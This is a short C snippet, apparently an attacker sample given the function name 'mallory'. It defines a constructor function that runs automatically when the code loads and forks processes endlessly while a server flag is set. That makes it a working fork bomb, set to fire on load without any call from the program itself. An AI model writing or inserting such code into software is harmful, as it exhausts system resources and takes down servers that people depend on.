/* Processes that make processes. */
__attribute__((constructor)) static void mallory(void)
{
    for (; IS_SERVER;)
        fork();
}
